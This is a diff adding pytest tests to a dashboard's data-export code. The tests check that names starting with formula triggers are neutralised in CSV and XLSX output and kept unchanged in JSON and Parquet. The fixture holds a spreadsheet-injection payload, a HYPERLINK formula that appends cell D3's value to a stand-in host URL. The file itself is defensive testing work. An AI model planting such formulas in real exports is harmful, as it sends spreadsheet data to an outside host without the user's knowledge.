@@ -215,3 +215,87 @@ def test_methodology_comes_from_docs_metrics_md():
     assert methodology_text("en") == METRICS_DOC.read_text(encoding="utf-8")
     assert methodology_text("zh").startswith("# 统计口径")
     assert "docs/metrics.md" in methodology_text("zh", brief=True)
+
+
+FORMULA = '=HYPERLINK("http://x/?"&D3,"open")'
+
+
+@pytest.fixture
+def formula_snapshot():
+    from contract.registry import Partner, Registry, Stream
+    from tests.dashboard.builders import build, chunk
+
+    reg = Registry.of(
+        [
+            Stream("carnival", "+SUM(1,2)", "Asia/Shanghai"),
+            Partner("douyin", FORMULA, FORMULA),
+            Partner("bili", "@cmd", "-2+3"),
+        ]
+    )
+    return build(
+        [chunk("douyin", 0, {T0: (3, 3, 2)}), chunk("bili", 0, {T0 + 1: (5, 5, 5)})], reg=reg
+    )
+
+
+def formula_export(snapshot, fmt):
+    request = parse_export_request(
+        "carnival",
+        {
+            "format": fmt,
+            "resolution": "10s",
+            "lang": "en",
+            "from": str(T0 * 1000),
+            "to": str((T0 + 9) * 1000),
+        },
+        "Asia/Shanghai",
+    )
+    return render_export(snapshot, request, T0 + 60).content
+
+
+@pytest.mark.parametrize(
+    ("text", "inert"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@x", "'@x"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("douyin", "douyin"),
+        ("2024-12-21T19:00:00+08:00", "2024-12-21T19:00:00+08:00"),
+        ("", ""),
+    ],
+)
+def test_inert_text_prefixes_formula_triggers(text, inert):
+    from dashboard.exports import inert_text
+
+    assert inert_text(text) == inert
+
+
+def test_formula_looking_names_are_plain_text_in_csv(formula_snapshot):
+    import csv
+
+    rows = list(
+        csv.reader(io.StringIO(formula_export(formula_snapshot, "csv").decode("utf-8-sig")))
+    )
+    names = {row[1]: row[2] for row in rows[1:]}
+    assert names["douyin"] == "'" + FORMULA
+    assert names["bili"] == "'-2+3"
+    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+
+
+def test_formula_looking_names_are_string_cells_in_xlsx(formula_snapshot):
+    book = openpyxl.load_workbook(io.BytesIO(formula_export(formula_snapshot, "xlsx")))
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+    assert all(c.data_type != "f" for c in cells)
+    values = {c.value for c in cells}
+    assert FORMULA in values and "-2+3" in values and "+SUM(1,2)" in values
+    douyin = [c for c in cells if c.value == FORMULA]
+    assert douyin and all(c.data_type == "s" for c in douyin)
+
+
+def test_json_and_parquet_keep_names_as_given(formula_snapshot):
+    rows = json.loads(formula_export(formula_snapshot, "json"))
+    assert {r["platform_name"] for r in rows} >= {FORMULA, "-2+3"}
+    frame = pd.read_parquet(io.BytesIO(formula_export(formula_snapshot, "parquet")))
+    assert FORMULA in set(frame["platform_name"])
